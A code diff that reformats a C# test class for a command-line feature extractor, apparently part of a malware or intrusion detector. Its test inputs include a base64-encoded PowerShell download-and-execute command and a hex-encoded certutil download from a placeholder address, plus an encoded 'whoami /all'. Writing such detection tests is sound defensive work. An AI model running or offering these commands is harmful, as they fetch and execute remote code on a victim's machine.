@@ -21,15 +21,22 @@ public class CommandLineFeatureTests
     [InlineData("cmd.exe", "cmd /c \"ls\" &gt; a.txt", "command_line.redirections", 1)]
 
     // Base64 looked into: IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')
-    [InlineData("powershell.exe", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=", "command_line.base64_hides_text", 1)]
-    [InlineData("powershell.exe", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=", "behaviour.downloads_in_script", 2)]
+    [InlineData("powershell.exe",
+        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=",
+        "command_line.base64_hides_text", 1)]
+    [InlineData("powershell.exe",
+        "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=",
+        "behaviour.downloads_in_script", 2)]
     [InlineData("notepad.exe", @"notepad.exe C:\Users\Public\Documents\ReadMeFirst.txt", "command_line.base64_hides_text", 0)]
 
     // Hexadecimal looked into: certutil -urlcache …, and whoami /all in UTF-16; hashes and numbers hold nothing
-    [InlineData("a.exe", "a.exe -x 636572747574696c202d75726c6361636865202d6620687474703a2f2f3139322e302e322e312f612e65786520612e657865", "behaviour.certutil_transfer", 1)]
-    [InlineData("a.exe", "a.exe -x 636572747574696c202d75726c6361636865202d6620687474703a2f2f3139322e302e322e312f612e65786520612e657865", "behaviour.web_address", 1)]
+    [InlineData("a.exe", "a.exe -x 636572747574696c202d75726c6361636865202d6620687474703a2f2f3139322e302e322e312f612e65786520612e657865",
+        "behaviour.certutil_transfer", 1)]
+    [InlineData("a.exe", "a.exe -x 636572747574696c202d75726c6361636865202d6620687474703a2f2f3139322e302e322e312f612e65786520612e657865",
+        "behaviour.web_address", 1)]
     [InlineData("a.exe", "a.exe -x 0x770068006F0061006D00690020002F0061006C006C00", "behaviour.who_and_what", 1)]
-    [InlineData("a.exe", "a.exe -x 636572747574696c202d75726c6361636865202d6620687474703a2f2f3139322e302e322e312f612e65786520612e657865", "command_line.base64_hides_text", 0)]
+    [InlineData("a.exe", "a.exe -x 636572747574696c202d75726c6361636865202d6620687474703a2f2f3139322e302e322e312f612e65786520612e657865",
+        "command_line.base64_hides_text", 0)]
     [InlineData("a.exe", "a.exe -x 3f786850e387550fdab836ed7e6dc881de23001b", "command_line.words", 1.5849625f)]
     [InlineData("a.exe", "a.exe -x 4624665222462466522246", "command_line.words", 1.5849625f)]
 
